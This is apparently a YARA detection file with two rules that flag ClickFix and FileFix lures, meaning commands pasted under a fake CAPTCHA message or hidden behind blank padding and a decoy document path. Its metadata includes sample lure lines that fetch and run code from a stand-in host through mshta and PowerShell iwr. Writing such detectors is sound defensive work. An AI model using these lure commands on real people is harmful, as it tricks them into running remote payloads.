/*
 * Commands that a web page or a mail talks a person into pasting (ClickFix, FileFix). The line
 * carries a text for the person to see while what matters is out of sight.
 */

rule Pasted_Verification_Lure
{
    meta:
        description = "A command dressed up as a proof of being human or as a repair"
        verdict = "deceptive_instruction"
        severity = "high"
        confidence = 90
        technique = "T1204.004"
        advice = "fix_login"
        pes_sample = "mshta https://files.example/kb.hta # I am not a robot - reCAPTCHA Verification ID: 0000"

    strings:
        $lure = /[#'"][^\n]{0,250}(not a robot|re-?captcha|h-?captcha|cloudflare|turnstile|human verification|verif(y|ication)[ \t](you|id|hash|code)|ray[ \t-]?id|bot-?guard|security (check|challenge)|(audio|microphone|camera|mic|meeting) fix|challenge id)/ nocase
        $tool = /\b(powershell|pwsh|cmd|mshta|msiexec|regsvr32|rundll32|wscript|cscript|forfiles|conhost|certutil|bitsadmin|curl|wget|osascript|bash|zsh|irm|iwr|iex|ssh|finger|nslookup)(\.exe)?["']?[ \t]/ nocase
        $remote = /(https?:\/\/|\\\\[a-z0-9][a-z0-9.-]{2,}\\|base64|\[char|frombase64|[-\/]enc[a-z]{0,13}[ \t]{1,4}[a-z0-9+\/]{24,})/ nocase

    condition:
        filesize < 16KB and all of them
}

rule Pasted_Path_Lure
{
    meta:
        description = "A command followed by blanks and a harmless-looking file name"
        verdict = "deceptive_instruction"
        severity = "high"
        confidence = 90
        technique = "T1204.004"
        advice = "do_not_run"
        pes_sample = "powershell -c \"iwr https://files.example/a\"                     # C:\\Users\\Public\\Plan.docx"

    strings:
        $tool = /\b(powershell|pwsh|cmd|mshta|msiexec|regsvr32|rundll32|wscript|cscript|forfiles|conhost|curl|wget|osascript|bash|zsh|irm|iwr|iex)(\.exe)?["']?[ \t]/ nocase
        $blanks = /[ \t]{16,}(#|rem|::|&)[ \t]{0,4}["']?[^\n]{0,4}([a-z]:\\|\\\\|file:|\/home\/|\/Users\/)/ nocase
        $path = /#[ \t]{0,4}["']?[a-z]:\\[^\n]{1,250}\.(docx?|xlsx?|pptx?|pdf|txt|csv)/ nocase

    condition:
        filesize < 16KB and $tool and any of ($blanks, $path)
}
